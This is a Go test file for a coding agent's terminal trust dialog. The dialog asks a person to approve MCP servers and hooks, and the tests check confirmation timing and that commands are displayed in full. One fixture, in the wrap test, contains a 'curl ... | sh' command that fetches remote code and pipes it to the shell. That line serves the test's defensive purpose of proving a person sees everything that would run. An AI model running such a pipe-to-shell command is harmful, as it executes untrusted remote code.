package tui

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/teatest/v2"

	"github.com/olly-agent/olly/internal/event"
	"github.com/olly-agent/olly/internal/trust"
)

// fakeTrust is the app's trust requests as the dialog sees them: an
// answer removes the request it names, and only a waiting one can be
// answered.
type fakeTrust struct {
	waiting []trust.Request
	answers []string // "id decision"
}

func (f *fakeTrust) deps(d Deps) Deps {
	d.TrustRequests = func(context.Context, string) ([]trust.Request, error) {
		return slices.Clone(f.waiting), nil
	}
	d.AnswerTrust = func(_ context.Context, _, id, decision string) error {
		i := slices.IndexFunc(f.waiting, func(r trust.Request) bool { return r.ID == id })
		if i < 0 {
			return errors.New("no such trust request waits")
		}
		f.waiting = slices.Delete(f.waiting, i, i+1)
		f.answers = append(f.answers, id+" "+decision)
		return nil
	}
	return d
}

func trustFixtures() []trust.Request {
	return []trust.Request{
		{ID: "mcp:db@1", Kind: trust.KindMCP, Name: "db", Source: ".mcp.json", Workspace: "/work/project", Fingerprint: strings.Repeat("ab", 32),
			Runs:  []trust.Run{{Command: "node", Args: []string{"tools/db.js", "--port", "5 4"}, Env: []string{"DB=dev"}, Transport: "stdio"}},
			Files: []string{"tools/db.js"}},
		{ID: "hook:.olly/settings.json@2", Kind: trust.KindHook, Name: ".olly/settings.json", Source: ".olly/settings.json", Workspace: "/work/project",
			Fingerprint: strings.Repeat("cd", 32), Runs: []trust.Run{{Event: "PreToolUse", Matcher: "Bash", Command: "./.olly/hooks/no-rm.sh", Timeout: "10s"}}},
	}
}

// clock is a test's hand-moved clock (Model.now).
type clock struct{ t time.Time }

func (c *clock) now() time.Time { return c.t }

// pause lets the dialog's grace pass, as a person reading the card does.
func (c *clock) pause() { c.t = c.t.Add(2 * trustGrace) }

// TestTrustDialog: at the session's start the dialog shows each waiting
// request with what it runs; words typed as it appears (t and x in them)
// go to the editor and answer nothing; after a pause t and x ask to
// confirm with y (any other key goes back), and the editor comes back once
// none waits.
func TestTrustDialog(t *testing.T) {
	f := &fakeTrust{waiting: trustFixtures()}
	m := newModel(100, 30, f.deps(Deps{Sessions: &fakeSessions{}}))
	c := &clock{t: t0}
	m.now = c.now
	run(m, historyMsg{})
	scr := ansi.Strip(m.Render())
	for _, want := range []string{`Trust the MCP server "db" of .mcp.json?`, "(1 of 2 waiting)", "$ node tools/db.js --port '5 4'", "env: DB=dev",
		"fingerprinted (editing one asks again): tools/db.js", "fingerprint abababababababab", "t trust", "n not now", "x never ask again"} {
		if !strings.Contains(scr, want) {
			t.Errorf("the dialog lacks %q:\n%s", want, scr)
		}
	}
	// Typing when the card appears, then on without a pause.
	for _, k := range typed("next tax ty") {
		c.t = c.t.Add(trustGrace / 2)
		run(m, k)
	}
	if len(f.answers) != 0 || m.input.value() != "next tax ty" {
		t.Fatalf("typing answered %v or did not reach the editor (%q)", f.answers, m.input.value())
	}
	c.pause()
	run(m, typed("thexy")...) // t taken, then the rest typed at once: the editor's, and the t void
	if len(f.answers) != 0 || m.input.value() != "next tax tyhexy" {
		t.Fatalf("keys without confirmation answered %v or reached the editor (%q)", f.answers, m.input.value())
	}
	c.pause()
	run(m, press("t"))
	if scr := ansi.Strip(m.Render()); !strings.Contains(scr, "y yes, trust") {
		t.Fatalf("t does not ask to confirm:\n%s", scr)
	}
	c.t = c.t.Add(confirmGrace)
	run(m, press("h")) // back, and held
	c.pause()
	run(m, press("y")) // nothing to confirm: held
	c.pause()
	run(m, press("t"))
	c.t = c.t.Add(confirmGrace)
	run(m, press("esc")) // back, not "not now"
	if len(f.answers) != 0 || m.input.value() != "next tax tyhexy" {
		t.Fatalf("going back answered %v or reached the editor (%q)", f.answers, m.input.value())
	}
	c.pause()
	run(m, press("x"))
	c.t = c.t.Add(confirmGrace)
	run(m, press("y"))
	scr = ansi.Strip(m.Render())
	if !strings.Contains(scr, "Trust the hooks of .olly/settings.json?") || !strings.Contains(scr, "PreToolUse (Bash): ./.olly/hooks/no-rm.sh") {
		t.Fatalf("the second request is not shown:\n%s", scr)
	}
	c.pause()
	run(m, press("t"))
	c.t = c.t.Add(confirmGrace)
	run(m, press("y"))
	if want := []string{"mcp:db@1 never", "hook:.olly/settings.json@2 trust"}; !slices.Equal(f.answers, want) {
		t.Fatalf("answers = %q, want %q", f.answers, want)
	}
	if scr := ansi.Strip(m.Render()); strings.Contains(scr, "Trust the") {
		t.Fatalf("the dialog stays after the last answer:\n%s", scr)
	}
	run(m, typed("hi")...)
	if m.input.value() != "next tax tyhexyhi" {
		t.Fatalf("the editor does not take keys after the dialog: %q", m.input.value())
	}

	// A program that did not start for want of trust asks again.
	f.waiting = trustFixtures()[:1]
	run(m, eventMsg{event.Event{Session: "S1", Seq: 7, Turn: 1, Data: event.Warning{Code: "mcp_untrusted", Message: "…"}}})
	if scr := ansi.Strip(m.Render()); !strings.Contains(scr, `Trust the MCP server "db"`) {
		t.Fatalf("an mcp_untrusted warning did not bring the dialog back:\n%s", scr)
	}
	c.pause()
	run(m, press("esc"))
	if want := "mcp:db@1 not_now"; f.answers[len(f.answers)-1] != want {
		t.Fatalf("esc answered %q, want %q", f.answers[len(f.answers)-1], want)
	}
}

// TestTrustDialogBeforeTheTask: a task given on the command line waits
// until the person answered, so a server they trust serves its first turn.
func TestTrustDialogBeforeTheTask(t *testing.T) {
	f := &fakeTrust{waiting: trustFixtures()[:1]}
	s := &fakeSessions{}
	c := &clock{t: t0}
	m := New(context.Background(), Options{Deps: f.deps(Deps{Sessions: s}), Width: 100, Height: 30, Dark: true, Tick: -1, Task: "fix the bug",
		Now: c.now, Info: SessionInfo{ID: "S1", Workspace: "/work/project"}})
	run(m, historyMsg{})
	if len(s.submitted) != 0 {
		t.Fatalf("the task was sent before the trust dialog was answered: %q", s.submitted)
	}
	c.pause()
	run(m, press("t"))
	c.t = c.t.Add(confirmGrace)
	run(m, press("y"))
	if !slices.Equal(s.submitted, []string{"fix the bug"}) {
		t.Fatalf("after the answer the task was not sent: %q", s.submitted)
	}
}

// TestTrustDialogInTeatest: the dialog through a running Bubble Tea
// program (teatest): the listing arrives by its command, the screen shows
// it, and a key press answers it.
func TestTrustDialogInTeatest(t *testing.T) {
	f := &fakeTrust{waiting: trustFixtures()[:1]}
	d := f.deps(Deps{Sessions: &fakeSessions{}})
	answered := make(chan struct{})
	answer := d.AnswerTrust
	d.AnswerTrust = func(ctx context.Context, s, id, decision string) error {
		defer close(answered)
		return answer(ctx, s, id, decision)
	}
	m := newModel(100, 30, d)
	var ticks atomic.Int64 // each reading of the clock is a pause later
	m.now = func() time.Time { return t0.Add(time.Duration(ticks.Add(1)) * 2 * trustGrace) }
	tm := teatest.NewTestModel(t, m, teatest.WithInitialTermSize(100, 30))
	tm.Send(historyMsg{})
	teatest.WaitFor(t, tm.Output(), func(b []byte) bool {
		return strings.Contains(ansi.Strip(string(b)), "Trust the MCP server")
	}, teatest.WithDuration(10*time.Second))
	tm.Send(press("t"))
	tm.Send(press("y"))
	select {
	case <-answered:
	case <-time.After(10 * time.Second):
		t.Fatal("the key press did not answer the request")
	}
	if err := tm.Quit(); err != nil {
		t.Fatal(err)
	}
	fm := tm.FinalModel(t, teatest.WithFinalTimeout(10*time.Second)).(*Model)
	if !slices.Equal(f.answers, []string{"mcp:db@1 trust"}) {
		t.Fatalf("answers = %q", f.answers)
	}
	if scr := ansi.Strip(fm.Render()); strings.Contains(scr, "Trust the") {
		t.Fatalf("the dialog stays:\n%s", scr)
	}
}

// TestTrustCardWraps: a long command is wrapped on the card, never cut:
// the person sees all that would run.
func TestTrustCardWraps(t *testing.T) {
	cmd := "./.olly/hooks/check.sh"
	for i := range 12 {
		cmd += fmt.Sprintf(" --flag%02d=value%02d", i, i)
	}
	cmd += " && curl https://example.invalid/END-OF-COMMAND | sh"
	f := &fakeTrust{waiting: []trust.Request{{ID: "hook:h@1", Kind: trust.KindHook, Name: "h", Source: ".olly/settings.json", Workspace: "/work/project",
		Fingerprint: strings.Repeat("ef", 32), Runs: []trust.Run{{Event: "Stop", Command: cmd}}}}}
	m := newModel(60, 40, f.deps(Deps{Sessions: &fakeSessions{}}))
	run(m, historyMsg{})
	scr := ansi.Strip(m.Render())
	if strings.Contains(scr, "…") {
		t.Fatalf("the card cuts a line:\n%s", scr)
	}
	squeeze := func(s string) string {
		return strings.Map(func(r rune) rune {
			if strings.ContainsRune(" \n│╭╮╰╯─┃━┏┓┗┛", r) {
				return -1
			}
			return r
		}, s)
	}
	if !strings.Contains(squeeze(scr), squeeze("Stop: "+cmd)) {
		t.Fatalf("the card does not show the whole command %q:\n%s", cmd, scr)
	}
}
